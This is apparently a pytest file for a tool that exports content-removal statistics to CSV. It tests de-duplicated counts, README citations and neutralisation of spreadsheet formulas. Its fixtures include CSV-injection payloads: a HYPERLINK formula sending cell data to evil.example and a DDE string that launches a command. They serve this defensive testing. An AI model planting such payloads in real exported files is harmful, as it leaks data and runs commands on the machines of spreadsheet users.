"""An export bundle says how to count, counts each figure once, cites its data, and runs no formula.

Real data: Google's whole bulk zip (every series: by requester, product x reason, historical), loaded
through ``modwatch.load.datasets.load_dataset``, plus an article whose scraped title is a spreadsheet formula.
"""

import csv
import datetime as dt
import hashlib

import pytest

import db
from db.articles import upsert_article
from modwatch.load.datasets import load_dataset
from modwatch.export import export_bundle
from modwatch.export_figures import FIGURES_VIEW, modwatch_version, neutralise
from tests.helpers import report_file

GOOGLE_URL = "https://storage.googleapis.com/transparencyreport/google-government-removals.zip"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full report")'


@pytest.fixture(scope="module")
def bundle(tmp_path_factory):
    folder = tmp_path_factory.mktemp("counting")
    database = db.connect(folder / "modwatch.db")
    data = report_file("google-government-removals.zip").read_bytes()
    load_dataset(
        database,
        parser="google_removals",
        source="google_removals",
        url=GOOGLE_URL,
        data=data,
        fetched_at="2026-11-29T12:00:00Z",
    )
    upsert_article(
        database,
        {
            "url": "https://news.example/takedowns",
            "source": "news-example",
            "title": FORMULA_TITLE,
            "body": "+cmd|' /C calc'!A0 and a plain line",
            "published_at": "2024-01-05T00:00:00Z",
            "language": "en",
            "http_status": 200,
        },
    )
    database.close()
    return export_bundle(folder / "modwatch.db", folder / "exports", today=dt.date(2026, 11, 29)), data


def rows(path):
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_per_country_table_counts_vietnam_2023_h2_once(bundle):
    folder, _ = bundle
    vietnam = [
        r
        for r in rows(folder / f"{FIGURES_VIEW}.csv")
        if (r["platform"], r["country"], r["period_end"]) == ("Google", "VN", "2023-12-31")
    ]
    assert [(r["requests"], r["reports"]) for r in vietnam] == [("787", "google/by_requester")]
    every_series = sum(
        int(r["requests"] or 0)
        for r in rows(folder / "removal_requests.csv")
        if (r["platform"], r["country"], r["period_end"]) == ("Google", "VN", "2023-12-31")
    )
    assert every_series == 1204  # what summing removal_requests.csv naively gives


def test_readme_explains_the_series_and_cites_version_and_datasets(bundle):
    folder, data = bundle
    readme = (folder / "README.md").read_text(encoding="utf-8")
    assert f"**Use `{FIGURES_VIEW}.csv`**" in readme
    assert "**Summing every row counts figures twice.**" in readme
    assert "`is_current = 1` and\n  `counts_in_total = 1`" in readme
    assert f"Cite this bundle as: modwatch {modwatch_version()}, export modwatch-2026-11-29" in readme
    assert modwatch_version() == "0.1.0"
    assert (
        f"- `google_removals`: {GOOGLE_URL}, fetched 2026-11-29T12:00:00Z, sha256 `{hashlib.sha256(data).hexdigest()}`"
    ) in readme


def test_no_cell_of_the_bundle_is_a_formula(bundle):
    folder, _ = bundle
    articles = rows(folder / "articles.csv")
    assert [r["title"] for r in articles] == ["'" + FORMULA_TITLE]
    assert articles[0]["body"] == "'+cmd|' /C calc'!A0 and a plain line"
    for path in folder.glob("*.csv"):
        with open(path, encoding="utf-8", newline="") as f:
            for record in csv.reader(f):
                for cell in record:
                    assert (
                        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                        or cell.lstrip("+-").replace(".", "", 1).isdigit()
                    ), (path.name, cell)


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=x", "'\r=x"),
        ("-x", "'-x"),
        ("-5", "-5"),
        ("+1.5", "+1.5"),
        (-5, -5),
        (2.5, 2.5),
        ("Việt Nam", "Việt Nam"),
        ("", ""),
    ],
)
def test_neutralise(value, written):
    assert neutralise(value) == written
